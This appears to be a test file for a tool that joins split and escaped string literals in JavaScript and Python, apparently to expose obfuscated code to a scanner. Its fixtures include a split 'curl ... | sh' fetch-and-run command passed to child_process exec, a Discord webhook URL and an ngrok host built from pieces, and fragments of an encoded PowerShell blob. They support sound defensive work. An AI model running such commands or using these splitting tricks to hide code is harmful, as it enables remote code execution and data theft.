import { describe, expect, it } from 'vitest';
import { foldGluedLiterals } from './glue.js';
import { MAX_PARSE_BYTES } from './text.js';

/** Folds and checks what every fold keeps: the length, the number of lines, and the text after the last run. */
function fold(text: string, language: 'javascript' | 'python'): string {
  const out = foldGluedLiterals(text, language).text;
  expect(out.length).toBe(text.length);
  expect(out.split('\n').length).toBe(text.split('\n').length);
  return out;
}

describe('glued string literals read as one', () => {
  it('joins JavaScript literals glued with +, keeping offsets and the lines after the run', () => {
    const text = "const c = require('child_' + 'process');\nc.exec('cu' +\n  \"rl -s https://x.example/a | sh\");\nmodule.exports = c;\n";
    const out = fold(text, 'javascript');
    expect(out).toContain("require('child_process'");
    expect(out).toContain("c.exec('curl -s https://x.example/a | sh'");
    // the line after the run starts where it did
    expect(out.indexOf('module.exports')).toBe(text.indexOf('module.exports'));
  });

  it('leaves quotes in comments, regular expressions and templates alone', () => {
    const text = "var a = /'/.test(x) + 'b'; // it's\nvar t = `it's ${'a'}` + 'c';\nvar s = 'x' + 'y';\n";
    const out = fold(text, 'javascript');
    expect(out).toContain("/'/.test(x) + 'b'; // it's");
    expect(out).toContain("var s = 'xy'");
    expect(out).toContain('`it\'s ${\'a\'}` + \'c\'');
  });

  it('leaves a JavaScript run beside an operator that binds tighter than + as written', () => {
    for (const text of ["n = 'a' + 'b'.length;", "n = typeof 'a' + 'b';", "n = -'a' + 'b';", "n = x * 'a' + 'b';", "n = 'a' + 'b'[0];", "n = 'a' + 'b'(1);"])
      expect(fold(text, 'javascript'), text).toBe(text);
  });

  it('joins literals of both quotes only when the result needs no escape', () => {
    expect(fold(`x = 'a' + "b";`, 'javascript')).toContain(`'ab'`);
    expect(fold(`x = 'say "' + "it's";`, 'javascript')).toBe(`x = 'say "' + "it's";`);
    expect(fold(`x = 'a\\n' + "b";`, 'javascript')).toBe(`x = 'a\\n' + "b";`);
    // one quote throughout: escapes keep their meaning, and those of printable characters are written plain
    expect(fold(`x = '\\x63hild_' + 'process';`, 'javascript')).toContain(`'child_process'`);
    expect(fold(`x = '\\n' + 'b';`, 'javascript')).toContain(`'\\nb'`);
  });

  it('writes escapes of printable characters plain, in a literal of its own too, keeping lengths', () => {
    const text = "const cp = require('\\x63hild_\\u0070rocess');\ncp['\\x65xec'](c);\nconst q = '\\x27' + '\\\\x41';\n";
    const out = fold(text, 'javascript');
    expect(out).toContain("require('child_process'");
    expect(out).toContain("cp['exec'");
    expect(out.length).toBe(text.length);
    expect(out.split('\n').length).toBe(text.split('\n').length);
    // a quote, and an escape after an escaped backslash, stay as written
    expect(out).toContain("'\\x27\\\\x41'");
    // Python: raw literals as written, others plain; u{...} only in JavaScript
    expect(fold("os.system('\\x63url x')\ny = r'\\x63'\n", 'python')).toBe("os.system('curl x'   )\ny = r'\\x63'\n");
    expect(fold("s = '\\u{63}url';", 'javascript')).toContain("'curl'");
  });

  it('joins Python literals glued with +, side by side on a line, over a backslash or inside brackets', () => {
    const text = "import os\nurl = 'https://disc' + \"ord.com/api/\" 'webhooks/1/a'\nos.system('cu' \\\n  'rl x')\nz = ('ht'\n     + 'tps')\nprint(z)\n";
    const out = fold(text, 'python');
    expect(out).toContain("url = 'https://discord.com/api/webhooks/1/a'");
    expect(out).toContain("os.system('curl x'");
    expect(out).toContain("z = ('https'");
    expect(out.indexOf('print(z)')).toBe(text.indexOf('print(z)'));
  });

  it('keeps Python prefixes apart and leaves f-strings, triple quotes, comments and tight operators alone', () => {
    expect(fold("q = b'x' + b'y'\n", 'python')).toContain("b'xy'");
    expect(fold("q = r'\\d' + r'x'\n", 'python')).toContain("r'\\dx'");
    for (const text of [
      "q = b'x' + 'y'\n",
      "q = f'{a}' + 'y'\n",
      "q = '''a''' + 'b'\n",
      "q = 1  # 'a' + 'b'\n",
      "q = 'a' + 'b'.upper()\n",
      "q = 'a' + 'b%s' % x\n",
      "q = 'a'\n'b'\n",
      "q = 'a' + x + 'b'\n",
    ])
      expect(fold(text, 'python'), text).toBe(text);
  });

  it('answers broken and huge input with the text as it was', () => {
    for (const [text, lang] of [
      ["x = 'a' + 'b", 'javascript'],
      ['x = `a${', 'javascript'],
      ["x = 'a' + 'b", 'python'],
      ["x = '''a' + 'b", 'python'],
    ] as const)
      expect(foldGluedLiterals(text, lang).text, text).toBe(text);
    // a file cut after a complete run still folds what it holds
    expect(fold("x = 'a' + 'b' +", 'javascript')).toBe("x = 'ab'      +");
    const huge = `x = 'a' + 'b';${' '.repeat(MAX_PARSE_BYTES)}`;
    expect(foldGluedLiterals(huge, 'javascript').text).toBe(huge);
  });
});

describe('where the joined runs are', () => {
  it('gives each run that was joined as a span of the text, none for runs left as written', () => {
    const text = "a = 'x' + 'y';\nb = 'p' + 'q'.length;\nc = \"m\" + 'n' + 'o';\n";
    const { spans } = foldGluedLiterals(text, 'javascript');
    expect(spans.map(([s, e]) => text.slice(s, e))).toEqual(["'x' + 'y'", `"m" + 'n' + 'o'`]);
    expect(foldGluedLiterals('q = 1\n', 'python').spans).toEqual([]);
  });
});

describe('lists of literals joined with a literal separator', () => {
  it('reads Python sep.join([...]) and JavaScript [...].join(sep) as the text they make', () => {
    expect(fold('_HOST = ".".join(["a3f9-82-14", "ngrok-free", "app"])\n', 'python')).toContain('_HOST = "a3f9-82-14.ngrok-free.app"');
    expect(fold("h = ''.join(('ht', 'tps://', 'x.example'))\n", 'python')).toContain("h = 'https://x.example'");
    expect(fold("const m = ['child', '_', 'process'].join('');\n", 'javascript')).toContain("const m = 'child_process'");
    expect(fold("const u = [\n  'https:', '', 'x.example',\n].join('/');\nrun(u);\n", 'javascript')).toContain("const u = 'https://x.example'");
  });

  it('leaves joins of names, member lists and tight neighbours as written', () => {
    for (const [text, lang] of [
      ['h = ".".join(parts)\n', 'python'],
      ['h = ".".join(["a", name])\n', 'python'],
      ['h = ".".join(["a", "b"]).upper()\n', 'python'],
      ["x = a['b', 'c'].join('')\n", 'javascript'],
      ["x = ['a', b].join('')\n", 'javascript'],
      ["x = ['a', 'b'].join(sep)\n", 'javascript'],
    ] as const)
      expect(fold(text, lang), text).toBe(text);
  });
});

describe('line numbers across a joined run', () => {
  it('keeps the line feeds the line numbers count, and no more: a U+2028 between the parts is not made a line', () => {
    const text = "a = 'x' +\u2028'y';\nb = 1;\n";
    const out = fold(text, 'javascript');
    expect(out).toContain("a = 'xy'");
    expect(out.indexOf('b = 1')).toBe(text.indexOf('b = 1'));
    expect(out.slice(0, out.indexOf('b = 1')).split('\n').length).toBe(2);
  });
});

describe('blobs written as a column of pieces', () => {
  it('joins Python blob pieces inside brackets across line breaks, and leaves sentences and statements as written', () => {
    const text = '_B = (\n    "JABQAHIAbwBnAHIAZQBzAHMA"\n    "UAByAGUAZgBlAHIAZQBuAGMA"\n)\nrun(_B)\n';
    const out = fold(text, 'python');
    expect(out).toContain('"JABQAHIAbwBnAHIAZQBzAHMAUAByAGUAZgBlAHIAZQBuAGMA"');
    expect(out.indexOf('run(_B)')).toBe(text.indexOf('run(_B)'));
    // a message split over lines holds spaces: as written
    const message = 'raise ValueError(\n    "the configuration file could not "\n    "be read from the given folder"\n)\n';
    expect(fold(message, 'python')).toBe(message);
    // outside brackets two literals on two lines are two statements
    const statements = '"JABQAHIAbwBnAHIAZQBzAHMA"\n"UAByAGUAZgBlAHIAZQBuAGMA"\n';
    expect(fold(statements, 'python')).toBe(statements);
  });
});
